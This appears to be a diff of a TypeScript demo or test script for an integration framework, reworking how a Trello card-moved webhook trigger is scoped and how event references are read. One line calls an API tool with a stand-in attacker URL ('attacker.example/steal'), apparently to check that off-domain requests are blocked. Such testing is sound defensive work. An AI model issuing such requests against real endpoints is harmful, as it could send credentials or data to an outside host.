@@ -43,7 +43,8 @@ try {
 
   // A trigger: register the webhook (the mock probes our receiver with HEAD), then watch moves.
   const events: TriggerEvent[] = [];
-  const router = createTriggerRouter(triggers, [{ trigger: "trello_card_moved", connection: "demo", boards: [board!.id] }]);
+  const moves = { trigger: "trello_card_moved", connection: "demo", scope: { board: [board!.id] } };
+  const router = createTriggerRouter(triggers, [moves]);
   const server = createServer((req, res) => receiver.nodeHandler(req, res));
   await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
   running.push({ close: () => new Promise<void>((r) => server.close(() => r())) });
@@ -67,7 +68,7 @@ try {
   const hostile = await executeToolByName(trelloTools, "trello_api_call", { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null }, context);
   show("tool hostile path", hostile.ok ? hostile : { kind: hostile.error.kind, message: hostile.error.message.slice(0, 80) });
   for (let i = 0; i < 50 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 10));
-  show("trigger card_moved", events.map((e) => ({ card: e.card?.id, to: e.list?.id })));
+  show("trigger card_moved", events.map((e) => ({ card: e.refs.card?.id, to: e.refs.list?.id })));
 
   console.log("Marketo — OAuth client credentials, token issued by the mock's identity endpoint");
   const marketoMock = await mock("marketo");
